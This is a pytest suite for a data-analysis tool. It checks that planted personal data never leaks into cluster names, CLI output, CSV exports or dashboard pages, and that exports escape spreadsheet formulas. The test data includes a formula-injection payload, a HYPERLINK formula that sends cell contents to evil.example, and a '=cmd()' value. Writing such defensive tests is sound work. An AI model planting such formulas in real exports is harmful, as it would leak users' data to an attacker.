"""Personal data planted in queries and feedback never comes out of anything derived from them:
cluster names, keywords, descriptions, parents, candidate reasons, CLI output, export files and
dashboard pages (tables, selectboxes, captions, downloads). The naming algorithm may change;
the rule holds at every output. Texts a spreadsheet would run as formulas, planted beside them,
are escaped in every export and download, and our exports import back."""

from __future__ import annotations

import csv
import io
import json
import os
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from click.testing import CliRunner
from dashboard_testkit import APP_PATH, RENDER_TIMEOUT_S, page_text
from postgres_databases import create_test_database, drop_test_database
from streamlit.testing.v1 import AppTest

from arenalens.app.cli import main_group
from arenalens.app.demo import sample_file
from arenalens.config import Settings

# one taxonomy build, coding run and ranking per backend: ~20-30 s each on two busy cores
pytestmark = pytest.mark.slow

# Luhn-valid card numbers (test numbers of the card networks), IBANs with valid check digits
CARDS = ["4111111111111111", "5500000000000004", "4012888888881881", "5105105105105100"]
IBANS = ["DE89 3704 0044 0532 0130 00", "GB82WEST12345698765432", "FR1420041010050500013M02606"]


def grouped(card: str, separator: str) -> str:
    return separator.join(card[i : i + 4] for i in range(0, len(card), 4))


# planted as ids, queries, feedback and an analyst's cluster name
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "-2+3 is what", "@SUM(A1:A9)"]


def formula_records() -> list[dict]:
    """Interactions whose id, query and feedback start like spreadsheet formulas."""
    return [
        {
            "id": text,
            "user_id": f"formula-user-{i}",
            "language": "en",
            "query_text": f"{text} what is the weather tomorrow",
            "model_a": "GPT-4o",
            "model_b": "Gemini-1.5-Pro",
            "response_a": "+1 sunny",
            "response_b": "-3 degrees",
            "winner": "model_a",
            "feedback": f"{text} the other one was slow",
        }
        for i, text in enumerate(FORMULAS)
    ]


def planted_records(n: int = 24) -> tuple[list[dict], list[str]]:
    """`n` interactions whose queries and feedback are full of personal data, in three themes
    (so they cluster together and get names of their own), and every planted value."""
    records, values = [], []
    for i in range(n):
        card = CARDS[i % len(CARDS)]
        phone = f"415-555-{1200 + i}"
        mail = f"jane.roe{i}@mailbox.example"
        token = f"tok{i:03d}zz{i * 7919:08d}qf7a2c"  # 22 characters
        iban = IBANS[i % len(IBANS)]
        ip = f"10.20.{i}.{200 - i}"
        card_text = [card, grouped(card, " "), grouped(card, "-")][i % 3]
        queries = [
            f"charge my card {card_text} and call me at {phone} when the payment is done",
            f"send the invoice to {mail} and pay it from iban {iban} today",
            f"open the reset link https://bank.example/reset?token={token}&user={i} for me",
        ]
        feedback = [
            f"it read my card number {card_text} out loud, call {phone}",
            f"it sent my details to {mail}, my iban is {iban}",
            f"it tried to open https://bank.example/reset?token={token} from {ip}",
        ]
        theme = i % 3
        records.append(
            {
                "id": f"pii-{i:03d}",
                "user_id": f"pii-user-{i % 12}",
                "language": "en",
                "query_text": queries[theme],
                "model_a": "GPT-4o",
                "model_b": "Gemini-1.5-Pro",
                "response_a": "Done.",
                "response_b": "I cannot do that.",
                "winner": "model_b",
                "feedback": feedback[theme],
            }
        )
        values += [card_text, card, phone, mail, token, iban, iban.replace(" ", ""), ip]
    values += ["415-555-1299", "jane.roe99@mailbox.example", "jane.roe98@mailbox.example",
               "tok099zz12345678qf7a2c", "10.20.99.101"]  # fmt: skip
    return records, sorted(set(values))


def leaks(text: str, values: list[str]) -> list[str]:
    """Planted values (or their distinctive parts) found in `text`."""
    found = [v for v in values if v in text]
    # parts a keyword or a clipped quote could carry: card groups at the start of a digit run
    # (not inside a decimal like 0.0967741), the phone's exchange, the mailbox name, the token
    # and IBAN bodies, the IP prefix
    parts = [r"(?<![\d.])(?:4111|5500 0000|4012|5105)", r"415-555", r"555-1[23]\d\d", r"jane\.roe",
             r"tok0\d\d", r"3704 0044", r"west1234", r"20041010", r"(?<![\d.])10\.20\."]  # fmt: skip
    found += [m.group(0) for p in parts for m in re.finditer(p, text, re.IGNORECASE)]
    return found


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def pii_workspace(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Workspace]:
    """60 sample-arena interactions plus the planted ones, taxonomy built and feedback coded
    (offline embedding labeler), an annotation sample and a ranking by cluster, on SQLite and
    on a fresh PostgreSQL database (dropped afterwards)."""
    db = ""
    if request.param == "postgresql":
        base = os.environ.get("ARENALENS_TEST_POSTGRES_URL")
        if not base:
            pytest.skip("ARENALENS_TEST_POSTGRES_URL not set (scripts/postgres.sh start)")
        db = create_test_database(base)
    folder = tmp_path_factory.mktemp("planted-pii")
    records, _ = planted_records()
    source = folder / "interactions.jsonl"
    with sample_file("interactions.jsonl").open() as sample:
        lines = [line for _, line in zip(range(60), sample, strict=False)]
    planted = [*records, *formula_records()]
    source.write_text("".join(lines) + "".join(json.dumps(r) + "\n" for r in planted))
    workspace = Workspace(folder / "workspace", db)
    for args in (
        ["ingest", str(source)],
        ["taxonomy", "build", "--seed", "1"],
        ["code"],
        ["annotate", "sample", "--annotator", "ann-1", "--annotator", "ann-2", "--size", "30"],
    ):
        cli(workspace, *args)
    plant_derived_text(workspace)
    cli(workspace, "rank", "--by", "cluster", "--bootstrap", "20")
    yield workspace
    if db:
        drop_test_database(db)


@dataclass(frozen=True)
class Workspace:
    """A workspace folder and its database URL ("" = the folder's SQLite file)."""

    path: Path
    db: str

    def settings(self) -> Settings:
        return Settings(workspace=self.path, db=self.db or None)


# what any namer might produce from the planted texts (the outputs must mask it regardless)
PLANTED_NAMES = {
    "name": "Call 415-555-1299 now",
    "auto_name": "Card 4111 1111 1111 1111",
    "description": "marked by: jane.roe99@mailbox.example, iban GB82WEST12345698765432",
    "keywords": ["card", "4111111111111111", "tok099zz12345678qf7a2c"],
}
PLANTED_PARENT = "Email jane.roe98@mailbox.example / 10.20.99.101"


def plant_derived_text(workspace: Workspace) -> None:
    """Give the largest cluster and its parent names, keywords and a description holding
    personal data, as a namer that copied words from the queries would."""
    from sqlalchemy import func, select, update

    from arenalens.store import Store
    from taxonomy.tables import taxonomy_clusters as c

    store = Store.open(workspace.settings().db_url)
    with store.transaction() as conn:
        run = conn.execute(select(func.max(c.c.run_id))).scalar()
        leaf = conn.execute(
            select(c.c.cluster_id, c.c.parent_id)
            .where(c.c.run_id == run, c.c.level == 0, c.c.cluster_id >= 0)
            .order_by(c.c.size.desc())
        ).first()
        conn.execute(
            update(c)
            .where(c.c.run_id == run, c.c.level == 0, c.c.cluster_id == leaf.cluster_id)
            .values(**PLANTED_NAMES)
        )
        conn.execute(
            update(c)
            .where(c.c.run_id == run, c.c.level == 1, c.c.cluster_id == leaf.parent_id)
            .values(name=PLANTED_PARENT)
        )
    store.engine.dispose()


def cli(workspace: Workspace, *args: str) -> str:
    database = ["--db", workspace.db] if workspace.db else []
    result = CliRunner().invoke(
        main_group,
        ["--workspace", str(workspace.path), *database, "--labeler", "embedding", *args],
    )
    assert result.exit_code == 0, (args, result.output, result.exception)
    return result.output


def test_planted_values_are_personal_data():
    """The planted values are what the masker masks (else the test below proves nothing)."""
    from arenalens.privacy import mask_pii

    records, values = planted_records(6)
    for value in values:
        assert value not in mask_pii(f"x {value} y"), value
    assert all(leaks(r["query_text"], values) for r in records)


def test_no_planted_value_in_any_cli_output_or_export(pii_workspace: Workspace, tmp_path: Path):
    _, values = planted_records()
    outputs = {
        "taxonomy show": cli(pii_workspace, "taxonomy", "show"),
        "taxonomy show --json": cli(pii_workspace, "taxonomy", "show", "--json"),
        "codebook discover": cli(
            pii_workspace,
            "codebook",
            "discover",
            "--min-support",
            "3",
            "--draft",
            str(tmp_path / "draft.yaml"),
        ),  # fmt: skip
        "codebook discover --json": cli(pii_workspace, "codebook", "discover", "--json"),
        "prevalence": cli(pii_workspace, "prevalence"),
        "agreement": cli(pii_workspace, "agreement"),
        "status": cli(pii_workspace, "status"),
        "rank --by cluster": cli(pii_workspace, "rank", "--by", "cluster", "--bootstrap", "20"),
    }
    outputs.update(exports(pii_workspace, tmp_path))
    outputs["discover draft"] = (tmp_path / "draft.yaml").read_text()
    shown = outputs["taxonomy show"]
    assert "[P" in shown and "Category shares" in shown  # a real taxonomy was shown
    assert "candidate reasons" in outputs["codebook discover"]
    found = {name: leaks(text, values) for name, text in outputs.items()}
    assert {name: hits for name, hits in found.items() if hits} == {}


def exports(workspace: Workspace, folder: Path) -> dict[str, str]:
    """The text of every CSV export: taxonomy export and annotate export."""
    cli(workspace, "taxonomy", "export", str(folder / "taxonomy.csv"))
    cli(workspace, "annotate", "export", str(folder / "annotate.csv"))
    return {name: (folder / f"{name.split()[0]}.csv").read_text()
            for name in ("taxonomy export", "annotate export")}  # fmt: skip


def test_no_export_has_a_formula_cell_and_exports_import_back(pii_workspace, tmp_path):
    from arenalens.csv_safe import formula_cells

    leaf = next(
        c
        for c in json.loads(cli(pii_workspace, "taxonomy", "show", "--json"))["clusters"]
        if c["level"] == 0 and c["cluster_id"] >= 0
    )
    cli(pii_workspace, "taxonomy", "edit", "rename", str(leaf["cluster_id"]), "=cmd()")
    try:
        files = exports(pii_workspace, tmp_path)
    finally:
        cli(pii_workspace, "taxonomy", "edit", "undo", "1")
    assert {name: formula_cells(text) for name, text in files.items()} == {
        "taxonomy export": 0,
        "annotate export": 0,
    }
    assert "'=cmd()" in files["taxonomy export"]
    rows = list(csv.DictReader(io.StringIO(files["taxonomy export"])))
    assert {"'" + f for f in FORMULAS} <= {r["query_id"] for r in rows}  # ids escaped, kept
    assert all(any(r["query"].startswith("'" + f[:6]) for r in rows) for f in FORMULAS)
    imported = cli(pii_workspace, "taxonomy", "label-import", str(tmp_path / "taxonomy.csv"))
    assert f"imported {2 * len(rows)} human labels" in imported  # every escaped id found again


PAGES = ["overview.py", "use_cases.py", "feedback.py", "agreement.py", "outputs.py", "annotate.py",
         "leaderboard.py"]  # fmt: skip


@pytest.mark.parametrize("page", PAGES)
def test_no_planted_value_on_any_dashboard_page(pii_workspace, monkeypatch, page):
    """Text, tables, selectbox options and every CSV a download button would save."""
    import dashboard.ui as ui
    from arenalens.csv_safe import formula_cells

    monkeypatch.setenv("ARENALENS_WORKSPACE", str(pii_workspace.path))
    if pii_workspace.db:
        monkeypatch.setenv("ARENALENS_DB", pii_workspace.db)
    else:
        monkeypatch.delenv("ARENALENS_DB", raising=False)
    downloads: list[str] = []
    original = ui.csv_text
    monkeypatch.setattr(
        ui, "csv_text", lambda frame: downloads.append(original(frame)) or downloads[-1]
    )
    at = AppTest.from_file(str(APP_PATH), default_timeout=RENDER_TIMEOUT_S)
    at.switch_page(f"views/{page}")
    at.run()
    assert not at.exception, at.exception
    _, values = planted_records()
    seen = [page_text(at)]
    seen += [str(frame.value.to_csv()) for frame in at.dataframe]
    seen += [" | ".join(map(str, box.options)) for box in at.selectbox]
    seen += [" | ".join(map(str, box.options)) for box in at.multiselect]
    seen += downloads
    assert leaks("\n".join(seen), values) == []
    assert [formula_cells(text) for text in downloads] == [0] * len(downloads)
